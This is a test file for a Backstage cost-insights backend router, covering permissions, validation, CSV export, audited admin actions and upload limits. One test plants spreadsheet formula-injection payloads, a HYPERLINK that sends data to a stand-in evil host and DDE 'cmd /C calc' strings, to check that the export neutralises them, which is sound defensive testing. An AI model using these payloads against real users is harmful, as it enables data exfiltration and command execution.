import {
  mockCredentials,
  mockErrorHandler,
  mockServices,
  TestDatabases,
} from '@backstage/backend-test-utils';
import { AuthorizeResult } from '@backstage/plugin-permission-common';
import { addDays } from '@internal/plugin-cost-insights-common';
import express from 'express';
import { Knex } from 'knex';
import fs from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import request from 'supertest';
import { Readable } from 'node:stream';
import { focusCsv, focusRow } from '../__testUtils__/focusCsv';
import { demoFocusCsv } from '../demo/generateDemoFocusRows';
import { createTestServices } from '../__testUtils__/testServices';
import { CostRouteGuard } from './CostRouteGuard';
import { createRouter } from './createRouter';

const TODAY = '2026-11-20';
const SAMPLE = path.resolve(
  __dirname,
  '../../../../data/focus-sample/focus_sample_1000.csv',
);
const ADMIN = 'user:default/admin';
const MEMBER = 'user:default/member';
const OUTSIDER = 'user:default/outsider';

/** The Forge policy's decisions for cost: read for everyone signed in, changes for admins. */
function forgeLikePermissions() {
  return mockServices.permissions.mock({
    authorize: async (requests, { credentials }) => {
      const user = (credentials.principal as { userEntityRef?: string })
        .userEntityRef;
      return requests.map(({ permission }) => {
        if (user === OUTSIDER) return { result: AuthorizeResult.DENY };
        if (permission.name === 'forge.cost.read')
          return { result: AuthorizeResult.ALLOW };
        return {
          result: user === ADMIN ? AuthorizeResult.ALLOW : AuthorizeResult.DENY,
        };
      });
    },
  });
}

const databases = TestDatabases.create({
  ids: ['POSTGRES_18', 'POSTGRES_17', 'POSTGRES_16', 'POSTGRES_15', 'SQLITE_3'],
});

describe.each(databases.eachSupportedId())('cost router (%s)', databaseId => {
  let app: express.Express;
  let knex: Knex;
  let services: Awaited<ReturnType<typeof createTestServices>>;
  const auditor = mockServices.auditor.mock();
  const auditEvent = { success: jest.fn(), fail: jest.fn() };
  const as = (user: string) => mockCredentials.user.header(user);

  beforeAll(async () => {
    knex = await databases.init(databaseId);
    services = await createTestServices(knex, {
      today: TODAY,
    });
    await services.ingester.ingest({
      source: 'demo',
      location: 'demo:test',
      content: demoFocusCsv({ endDay: TODAY, days: 100, seed: 7 }),
    });
    auditor.createEvent.mockResolvedValue(auditEvent);
    app = await appWithUploadLimit(10 * 1024 * 1024);
  });

  /** The cost router as the plugin mounts it, with the real error handler, on this test's services. */
  async function appWithUploadLimit(maxUploadBytes: number) {
    const router = await createRouter({
      ...services,
      guard: new CostRouteGuard({
        httpAuth: mockServices.httpAuth(),
        permissions: forgeLikePermissions(),
        auditor,
      }),
      logger: mockServices.logger.mock(),
      maxUploadBytes,
      openApiPath: path.resolve(__dirname, '../../openapi.yaml'),
    });
    return express().use(router).use(mockErrorHandler());
  }

  beforeEach(() => {
    auditor.createEvent.mockClear();
    auditEvent.success.mockClear();
    auditEvent.fail.mockClear();
  });

  it('refuses requests without credentials', async () => {
    const res = await request(app)
      .get('/entities/churn-model/summary')
      .set('Authorization', mockCredentials.none.header());
    expect(res.status).toBe(401);
  });

  it('refuses to read cost without forge.cost.read', async () => {
    const res = await request(app)
      .get('/entities/churn-model/summary')
      .set('Authorization', as(OUTSIDER));
    expect(res.status).toBe(403);
    expect(res.body.error.message).toContain('forge.cost.read');
  });

  it('serves the entity summary the card shows', async () => {
    const res = await request(app)
      .get(
        `/entities/${encodeURIComponent(
          'component:default/churn-model',
        )}/summary`,
      )
      .set('Authorization', as(MEMBER))
      .expect(200);
    expect(res.body).toMatchObject({
      entityRef: 'component:default/churn-model',
      currency: 'USD',
      lastCompleteBillingDate: TODAY,
      budget: { monthlyAmount: 4200, source: 'catalog' },
    });
    expect(res.body.last30Days).toHaveLength(30);
  });

  it('serves the Cost Insights shapes, a 400 naming the format for bad intervals, a 404 for unknown groups', async () => {
    const intervals = `R2/P30D/${addDays(TODAY, 1)}`;
    const cost = await request(app)
      .get(`/groups/pricing-science/daily-cost?intervals=${intervals}`)
      .set('Authorization', as(MEMBER))
      .expect(200);
    expect(cost.body.id).toBe('group:default/pricing-science');
    expect(cost.body.aggregation).toHaveLength(60);

    const bad = await request(app)
      .get('/groups/pricing-science/daily-cost?intervals=last-month')
      .set('Authorization', as(MEMBER))
      .expect(400);
    expect(bad.body.error.message).toContain(
      'R<repetitions>/P<n>D|P<n>M/<exclusive end YYYY-MM-DD>',
    );

    const missing = await request(app)
      .get(`/groups/nobody/daily-cost?intervals=${intervals}`)
      .set('Authorization', as(MEMBER))
      .expect(404);
    expect(missing.body.error.message).toContain(
      'No group group:default/nobody',
    );

    await request(app)
      .get('/entities/component%3Adefault%2Fghost/summary')
      .set('Authorization', as(MEMBER))
      .expect(404);

    const date = await request(app)
      .get('/last-complete-billing-date')
      .set('Authorization', as(MEMBER))
      .expect(200);
    expect(date.body).toEqual({ date: TODAY });
  });

  it('validates query parameters with messages that say what is accepted', async () => {
    const res = await request(app)
      .get('/cost?by=colour&start=2026-10-01&end=2026-09-01')
      .set('Authorization', as(MEMBER))
      .expect(400);
    expect(res.body.error.message).toContain('by must be one of entity, group');
    expect(res.body.error.message).toContain('start must be before end');
    const ok = await request(app)
      .get('/cost?by=provider&scope=group:default/data-science')
      .set('Authorization', as(MEMBER))
      .expect(200);
    expect(ok.body.rows.map((r: { key: string }) => r.key).sort()).toEqual([
      'AWS',
      'Google Cloud',
      'Microsoft',
    ]);
  });

  it('exports the entity breakdown as CSV', async () => {
    const res = await request(app)
      .get('/entities/churn-model/export.csv?start=2026-11-01&end=2026-11-03')
      .set('Authorization', as(MEMBER))
      .expect(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const [header, ...lines]: string[][] = parseCsv(res.text);
    expect(header.join(',')).toBe(
      'day,entityRef,provider,serviceCategory,serviceName,region,subAccountId,chargeCategory,billedCost,effectiveCost,listCost,consumedQuantity,consumedUnit,currency',
    );
    expect(lines.length).toBeGreaterThan(0);
    expect(
      lines.every(
        l =>
          /^2026-11-0[12]$/.test(l[0]) &&
          l[1] === 'component:default/churn-model',
      ),
    ).toBe(true);
  });

  it('lets admins set and remove budgets, audited, and refuses members', async () => {
    const denied = await request(app)
      .put('/budgets/pricing-science')
      .set('Authorization', as(MEMBER))
      .send({ monthlyAmount: 20000 });
    expect(denied.status).toBe(403);
    expect(auditEvent.fail).toHaveBeenCalledTimes(1);

    await request(app)
      .put('/budgets/group:default%2Fpricing-science')
      .set('Authorization', as(ADMIN))
      .send({ monthlyAmount: 'lots' })
      .expect(400);

    const set = await request(app)
      .put(`/budgets/${encodeURIComponent('group:default/pricing-science')}`)
      .set('Authorization', as(ADMIN))
      .send({ monthlyAmount: 20000 })
      .expect(200);
    expect(set.body).toMatchObject({
      entityRef: 'group:default/pricing-science',
      monthlyAmount: 20000,
      source: 'forge',
      updatedBy: ADMIN,
    });
    expect(auditor.createEvent).toHaveBeenCalledWith(
      expect.objectContaining({ eventId: 'cost-budget-set' }),
    );
    expect(auditEvent.success).toHaveBeenCalled();

    const status = await request(app)
      .get('/budgets/group%3Adefault%2Fpricing-science')
      .set('Authorization', as(MEMBER))
      .expect(200);
    expect(status.body.monthlyAmount).toBe(20000);

    await request(app)
      .delete('/budgets/group%3Adefault%2Fpricing-science')
      .set('Authorization', as(ADMIN))
      .expect(204);
    await request(app)
      .delete('/budgets/group%3Adefault%2Fpricing-science')
      .set('Authorization', as(ADMIN))
      .expect(404);
  });

  it('takes uploads from admins only, audited; a malformed file is a 400 naming row and column', async () => {
    const sample = fs.readFileSync(SAMPLE);
    await request(app)
      .post('/ingestions?name=sample.csv')
      .set('Authorization', as(MEMBER))
      .set('Content-Type', 'text/csv')
      .send(sample)
      .expect(403);

    const ok = await request(app)
      .post('/ingestions?name=sample.csv')
      .set('Authorization', as(ADMIN))
      .set('Content-Type', 'text/csv')
      .send(sample)
      .expect(201);
    expect(ok.body).toMatchObject({
      status: 'succeeded',
      rowCount: 1000,
      location: 'upload:sample.csv',
      actor: ADMIN,
    });
    expect(auditor.createEvent).toHaveBeenCalledWith(
      expect.objectContaining({ eventId: 'cost-upload' }),
    );

    const broken = sample
      .toString('utf8')
      .replace(/\n(.*?),0\.00000080000,/, '\nNULL,not-a-number,');
    const bad = await request(app)
      .post('/ingestions?name=broken.csv')
      .set('Authorization', as(ADMIN))
      .set('Content-Type', 'text/csv')
      .send(broken)
      .expect(400);
    expect(bad.body.error.message).toContain(
      'row 2, column BilledCost: "not-a-number" is not a number',
    );
    expect(bad.body.error.message).toContain('Nothing was stored');
    expect(auditEvent.fail).toHaveBeenCalled();

    const records = await request(app)
      .get('/ingestions')
      .set('Authorization', as(MEMBER))
      .expect(200);
    expect(
      records.body.map((r: { status: string }) => r.status).slice(0, 2),
    ).toEqual(['rejected', 'succeeded']);
  });

  it('serves its OpenAPI document', async () => {
    const res = await request(app).get('/openapi.json').expect(200);
    expect(res.body.openapi).toBe('3.0.3');
    expect(Object.keys(res.body.paths)).toContain('/groups/{group}/daily-cost');
  });

  it('neutralises spreadsheet formulas a billing file plants in the export, and keeps negative costs numbers', async () => {
    const planted = {
      ServiceName: '=HYPERLINK("https://evil.example/?"&A1,"Details")',
      RegionId: '@SUM(1+1)*cmd|" /C calc"!A0',
      SubAccountId: '+cmd|" /C notepad"!A0',
      ConsumedUnit: "-2+3+cmd|' /C calc'!A0",
      Tags: '{"forge-entity": "churn-model"}',
      BillingAccountId: 'acct-planted',
    };
    const record = await services.ingester.ingest({
      source: 'upload',
      location: 'upload:planted.csv',
      content: Readable.from([
        Buffer.from(
          focusCsv([
            focusRow('2026-11-02', {
              ...planted,
              BilledCost: '-5.5',
              EffectiveCost: '-5.5',
              ListCost: '0',
            }),
          ]),
        ),
      ]),
    });
    expect(record.status).toBe('succeeded');
    const res = await request(app)
      .get('/entities/churn-model/export.csv?start=2026-11-02&end=2026-11-03')
      .set('Authorization', as(MEMBER))
      .expect(200);
    // As a spreadsheet reads the file: every cell of the planted line is text that starts with a quote...
    const [header, ...lines]: string[][] = parseCsv(res.text);
    const line = lines.find(l =>
      l[header.indexOf('serviceName')].includes('HYPERLINK'),
    );
    expect(line).toBeDefined();
    const cell = (name: string) => line![header.indexOf(name)];
    expect(cell('serviceName')).toBe(`'${planted.ServiceName}`);
    expect(cell('region')).toBe(`'${planted.RegionId}`);
    expect(cell('subAccountId')).toBe(`'${planted.SubAccountId}`);
    expect(cell('consumedUnit')).toBe(`'${planted.ConsumedUnit}`);
    // ...and the costs are plain numbers, the negative one included, unquoted in the file.
    expect(cell('billedCost')).toBe('-5.5');
    expect(res.text).toMatch(/,-5\.5,-5\.5,0,/);
    for (const l of lines)
      for (const c of l)
        expect(/^[=+@]/.test(c) || /^-[^\d.]/.test(c)).toBe(false);
  });

  it('refuses an upload that is not UTF-8 with its line, and transcodes one that declares its charset', async () => {
    const latin1 = Buffer.from(
      focusCsv([
        focusRow('2026-11-05', {
          BillingAccountId: 'acct-latin',
          ServiceName: 'Café',
        }),
      ]),
      'latin1',
    );
    const undeclared = await request(app)
      .post('/ingestions?name=latin1.csv')
      .set('Authorization', as(ADMIN))
      .set('Content-Type', 'text/csv')
      .send(latin1)
      .expect(400);
    expect(undeclared.body.error.message).toContain(
      'Line 2: the text is not UTF-8',
    );
    const unknown = await request(app)
      .post('/ingestions?name=latin1.csv')
      .set('Authorization', as(ADMIN))
      .set('Content-Type', 'text/csv; charset=klingon')
      .send(latin1)
      .expect(400);
    expect(unknown.body.error.message).toContain('charset klingon');
    await request(app)
      .post('/ingestions?name=latin1.csv')
      .set('Authorization', as(ADMIN))
      .set('Content-Type', 'text/csv; charset=windows-1252')
      .send(latin1)
      .expect(201);
  });

  it('answers 413 for an upload over maxUploadBytes, declared or streamed, saying the limit and the ways in without it; nothing is stored', async () => {
    const limited = await appWithUploadLimit(4096);
    const rows = Array.from({ length: 60 }, (_, i) =>
      focusRow(`2026-11-${String((i % 9) + 1).padStart(2, '0')}`, {
        BillingAccountId: 'acct-too-large',
      }),
    );
    const csv = Buffer.from(focusCsv(rows));
    expect(csv.length).toBeGreaterThan(4096);
    const storedOf = async () =>
      Number(
        (
          await knex('cost_daily_rollups')
            .where({ billing_account_id: 'acct-too-large' })
            .count({ n: '*' })
        )[0].n,
      );
    const recordsBefore = await services.store.listIngestions({ limit: 500 });

    // Content-Length says it: refused before a byte is read, and no ingestion is started.
    const declared = await request(limited)
      .post('/ingestions?name=big.csv')
      .set('Authorization', as(ADMIN))
      .set('Content-Type', 'text/csv')
      .send(csv)
      .expect(413);
    const message = declared.body.error.message;
    expect(message).toContain('4096 bytes');
    expect(message).toContain('forge.cost.ingestion.maxUploadBytes');
    expect(message).toContain('inbox folder (forge.cost.ingestion.folder)');
    expect(message).toContain('URL location (forge.cost.ingestion.locations)');
    expect(message).toContain('nothing was stored');
    expect(declared.body.error.name).toBe('PayloadTooLargeError');
    expect(declared.body.error.stack).toBeUndefined();
    expect((await services.store.listIngestions({ limit: 500 })).length).toBe(
      recordsBefore.length,
    );

    // Sent chunked, without its length: found over the limit while streaming, refused the same way.
    const chunked = request(limited)
      .post('/ingestions?name=big.csv')
      .set('Authorization', as(ADMIN))
      .set('Content-Type', 'text/csv');
    for (let at = 0; at < csv.length; at += 1024) {
      chunked.write(csv.subarray(at, at + 1024));
    }
    const streamed = await chunked;
    expect(streamed.status).toBe(413);
    expect(streamed.body.error.message).toBe(message);
    const [refused] = await services.store.listIngestions({ limit: 1 });
    expect(refused).toMatchObject({
      location: 'upload:big.csv',
      status: 'rejected',
      rollupCount: 0,
    });
    expect(await storedOf()).toBe(0);
    expect(auditEvent.fail).toHaveBeenCalledTimes(2);

    // The same file within the limit is taken.
    await request(await appWithUploadLimit(csv.length))
      .post('/ingestions?name=big.csv')
      .set('Authorization', as(ADMIN))
      .set('Content-Type', 'text/csv')
      .send(csv)
      .expect(201);
    expect(await storedOf()).toBeGreaterThan(0);
  });
});
